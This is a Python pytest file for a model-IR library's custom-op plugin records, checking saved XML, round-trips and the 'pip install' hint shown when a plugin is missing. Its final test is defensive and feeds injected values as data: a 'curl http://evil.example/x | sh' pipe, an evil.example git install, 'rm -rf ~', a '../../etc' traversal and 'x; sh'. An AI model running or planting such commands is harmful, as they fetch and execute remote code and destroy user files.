"""Custom ops keep their opset in the IR, and a reader without their plugin says what to install."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from opforge.errors import UnsupportedOpError
from opforge.graph import Model, Node
from opforge.ir import read_ir, save_model, serialize
from opforge.op import InferContext, Op, OpAttrs, TensorSpec
from opforge.plugins import PluginInfo, PluginSystem
from opforge.reference import evaluate_model

MY_PLUGIN = PluginInfo("my-plugin", "my-dist", "1.0")


class ScaleAttrs(OpAttrs):
    alpha: float = 1.0
    axes: list[int] = []


class Scale(Op):
    """y = alpha * x: a tiny custom op of the custom opset 'test_ext'."""

    type_name = "Scale"
    version = "test_ext"
    Attrs = ScaleAttrs

    @classmethod
    def infer(cls, ctx: InferContext) -> list[TensorSpec]:
        return [TensorSpec(ctx.input_type(0), ctx.input_shape(0))]

    @classmethod
    def evaluate(cls, attrs: Any, inputs: list[np.ndarray]) -> list[np.ndarray]:
        return [(inputs[0] * attrs.alpha).astype(inputs[0].dtype)]


def with_scale(base: PluginSystem) -> PluginSystem:
    ps = base.copy()
    ps.ops.add(Scale.key(), Scale, MY_PLUGIN)
    return ps


def scale_model(kit, ps: PluginSystem) -> Model:
    x = kit.param("x", [2, 3])
    s = Node.create("Scale", [x], {"alpha": 2.5, "axes": [0, 1]}, "scale", version="test_ext",
                    registry=ps.ops)
    return kit.model([s], [x], "custom")


def test_custom_op_roundtrips_with_its_plugin(kit, plugins: PluginSystem, tmp_path: Path) -> None:
    ps = with_scale(plugins)
    model = scale_model(kit, ps)
    save_model(model, tmp_path / "m.xml", plugins=ps)
    xml = (tmp_path / "m.xml").read_text()
    assert re.search(r'<layer id="1" name="scale" type="Scale" version="test_ext">\s*'
                     r'<data alpha="2.5" axes="0,1" />', xml)
    # The model rt_info records which distribution provides the custom opset.
    assert re.search(r"<custom_opsets>\s*<test_ext>\s*<distribution value=\"my-dist\" />\s*"
                     r"<plugin value=\"my-plugin\" />\s*<version value=\"1.0\" />", xml)
    back = read_ir(tmp_path / "m.xml", None, ps)
    node = back.node("scale")
    assert node.op is Scale and node.attrs == ScaleAttrs(alpha=2.5, axes=[0, 1])
    x = np.ones((2, 3), np.float32)
    np.testing.assert_array_equal(evaluate_model(back, [x])[0], np.full((2, 3), 2.5, np.float32))


def test_reading_without_the_plugin_names_the_opset_and_the_distribution(
        kit, plugins: PluginSystem, tmp_path: Path) -> None:
    ps = with_scale(plugins)
    save_model(scale_model(kit, ps), tmp_path / "m.xml", plugins=ps)
    with pytest.raises(UnsupportedOpError,
                       match=r"layer 'scale' \(id 1, Scale\): operation 'Scale' of opset 'test_ext': no "
                             r"installed plugin provides opset 'test_ext'.*distribution 'my-dist' 1\.0 "
                             r"\(plugin 'my-plugin'\): `pip install my-dist`"):
        read_ir(tmp_path / "m.xml", None, plugins)


def test_resaving_a_model_read_elsewhere_keeps_the_record(kit, plugins: PluginSystem, tmp_path: Path) -> None:
    ps = with_scale(plugins)
    save_model(scale_model(kit, ps), tmp_path / "m.xml", plugins=ps)
    back = read_ir(tmp_path / "m.xml", None, ps)
    # Saved again through a plugin system that does not know the op: the file's record stays.
    save_model(back, tmp_path / "again.xml", plugins=plugins)
    with pytest.raises(UnsupportedOpError, match="my-dist"):
        read_ir(tmp_path / "again.xml", None, plugins)


def test_unrecorded_custom_opset(kit, plugins: PluginSystem) -> None:
    ps = with_scale(plugins)
    xml, weights = serialize(scale_model(kit, ps), plugins=ps)
    bare = re.sub(rb"<opforge>.*</opforge>", b"", xml, flags=re.S)
    with pytest.raises(UnsupportedOpError,
                       match=r"no installed plugin provides opset 'test_ext', and the file does not "
                             r"record which package did"):
        read_ir(bare, weights, plugins)


def test_installed_opset_without_that_op(kit, plugins: PluginSystem) -> None:
    ps = with_scale(plugins)
    xml, weights = serialize(scale_model(kit, ps), plugins=ps)
    renamed = xml.replace(b'type="Scale"', b'type="Shift"')
    with pytest.raises(UnsupportedOpError,
                       match=r"opset 'test_ext' is provided by my-dist 1\.0 \(plugin 'my-plugin'\), but "
                             r"it has no operation 'Shift' \(it has: Scale\)"):
        read_ir(renamed, weights, ps)


@pytest.mark.parametrize("dist", [
    "pkg --index-url http://evil.example/simple; curl http://evil.example/x | sh #",
    "-e git+https://evil.example/repo",
    "pkg\n`rm -rf ~`",
    "../../etc",
])
def test_a_distribution_that_is_not_a_package_name_is_never_shown(kit, plugins: PluginSystem, dist: str) -> None:
    # The file chooses this text: it must never become the command a user is told to run.
    ps = with_scale(plugins)
    xml, weights = serialize(scale_model(kit, ps), plugins=ps)
    hostile = xml.replace(b'<distribution value="my-dist" />',
                          b'<distribution value="' + dist.replace("\n", "&#10;").encode() + b'" />')
    hostile = hostile.replace(b'<plugin value="my-plugin" />', b'<plugin value="x; sh" />')
    assert hostile != xml
    with pytest.raises(UnsupportedOpError) as info:
        read_ir(hostile, weights, plugins)
    msg = str(info.value)
    assert "pip install" not in msg and "evil" not in msg and "rm -rf" not in msg and "; sh" not in msg
    assert "does not record which package did" in msg
